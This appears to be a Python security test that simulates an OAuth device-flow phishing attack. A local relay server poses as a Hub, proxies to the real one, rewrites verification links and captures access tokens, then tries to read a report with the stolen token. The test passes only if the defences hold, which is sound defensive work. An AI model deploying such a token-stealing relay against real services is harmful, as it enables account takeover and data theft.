"""A hostile Hub that gives its own people the codes of another Hub, and leads them there."""

import json
import os
import re
import subprocess
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from itertools import product
from tempfile import mkdtemp
from typing import Any, NamedTuple

import requests
from django.db import connection

from orgs.models import Terminal
from tests import build
from tests.abuse.people import Browser, Program, member
from tests.abuse.table import HUB, attack
from tests.abuse.world import Shipped, World, stands_if
from tests.clients.conftest import COMMAND_LINES
from tests.clients.conftest import PATH as PYTHON_CLIENT

APPROVE = ">Approve<"
NAMED = re.compile(r"<dd>(https?://[^<]+)</dd>")
ORGANIZATION = re.compile(r'name="organization" value="(\w+)"')
WAYS = {"a redirect": "none", "a link": "cross-site"}  # what browsers say of it to the other Hub


class Relay(ThreadingHTTPServer):
    """A Hub at an address of its own that asks another one for all that it says."""

    def __init__(self, real: str) -> None:
        super().__init__(("127.0.0.1", 0), Relayed)
        self.real, self.stolen = real, ""
        self.url = f"http://127.0.0.1:{self.server_address[1]}"


class Relayed(BaseHTTPRequestHandler):
    server: Relay

    def log_message(self, *args: Any) -> None:
        """Not said."""

    def do_GET(self) -> None:
        if self.path == "/.well-known/openid-configuration":
            names = ("device_authorization", "device"), ("token", "token")
            self._say(200, {f"{n}_endpoint": f"{self.server.url}/oauth/{p}" for n, p in names})
        else:
            bearer = {"Authorization": self.headers.get("Authorization", "")}
            told = requests.get(self.server.real + self.path, headers=bearer, timeout=60)
            self._say(told.status_code, told.json())

    def do_POST(self) -> None:
        body = self.rfile.read(int(self.headers["Content-Length"]))
        form = {"Content-Type": "application/x-www-form-urlencoded"}
        told = requests.post(self.server.real + self.path, body, headers=form, timeout=60)
        answer = told.json()
        self.server.stolen = answer.get("access_token", self.server.stolen)
        for name in {"verification_uri", "verification_uri_complete"} & answer.keys():
            answer[name] = answer[name].replace(self.server.real, self.server.url)
        self._say(told.status_code, answer)

    def _say(self, status: int, said: Any) -> None:
        text = json.dumps(said).encode()
        self.send_response(status)
        self.send_header("Content-Length", str(len(text)))
        self.end_headers()
        self.wfile.write(text)


class Seen(NamedTuple):
    """What alice saw of one sign-in, and did."""

    is_asked: bool  # for the code, which the link had
    approves: bool
    told: str  # by her terminal, in the end

    def __str__(self) -> str:
        page = "asks for the code" if self.is_asked else "shows the code"
        return f"the page {page}, she {'approves' if self.approves else 'denies'}, {self.told}"


@attack(HUB, "get the sign-in for another Hub")
def codes_of_another_hub(world: World) -> str:
    """alice signs both command lines in at a Hub that gives her another one's codes, and leads her to its page.

    She approves unless that page names another Hub than her terminal.
    """
    acme = build.acme(world.host)
    alice, _ = member(acme)
    seen, read = {}, 0
    with world.hub() as real:
        report = real.post(build.report(report__details="Our staging host is stage-7")).json()["id"]
        for client, way in product(COMMAND_LINES, WAYS):
            with _relay(real) as bad:
                seen[client, way] = _sign_in(world, client, way, bad, Browser(real, alice))
                thief = Program(real, bad.stolen)
                read += "stage-7" in thief.call("GET", f"/orgs/me/reports/{report}").text
    terminals = Terminal.objects.count()
    connection.close()
    told = "; ".join(f"{client} by {way}: {each}" for (client, way), each in seen.items())
    are_asked = {way for (_, way), each in seen.items() if each.is_asked}
    holds = are_asked == {"a link"} and not read and not terminals
    return stands_if(holds, f"{told}; {terminals} signed in, the report is read {read} times")


@contextmanager
def _relay(real: Shipped) -> Iterator[Relay]:
    with Relay(real.url) as server:
        serving = threading.Thread(target=server.serve_forever, args=(0.05,))
        serving.start()
        try:
            yield server
        finally:
            server.shutdown()
            serving.join()


def _sign_in(world: World, client: str, way: str, bad: Relay, browser: Browser) -> Seen:
    with _terminal(client, bad.url, mkdtemp(dir=world.folder)) as terminal:
        assert terminal.stderr is not None
        shown = json.loads(terminal.stderr.readline())
        link = shown["verification_uri_complete"].replace(bad.url, bad.real)
        page = browser.get(link, headers={"Sec-Fetch-Site": WAYS[way]}).text
        if is_asked := APPROVE not in page:
            page = browser.get("/device/", params={"user_code": shown["user_code"]}).text
        approves = not set(NAMED.findall(page)) - {shown["hub_url"]}
        form = {"user_code": shown["user_code"], "organization": ORGANIZATION.search(page)[1]}
        browser.submit("/device/", answer="approve" if approves else "deny", **form)
        stdout, _ = terminal.communicate(timeout=120)
    return Seen(is_asked, approves, json.loads(stdout).get("error", "signed_in"))


def _terminal(client: str, hub_url: str, home: str) -> "subprocess.Popen[str]":
    """`login` of somebody who has signed in nowhere yet."""
    return subprocess.Popen(
        [*COMMAND_LINES[client].command, "login", "--json", "--no-browser", "--hub-url", hub_url],
        cwd=home,
        env={"PATH": os.environ["PATH"], "PYTHONPATH": PYTHON_CLIENT, "HOME": home},
        text=True,
        stdin=subprocess.DEVNULL,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
    )
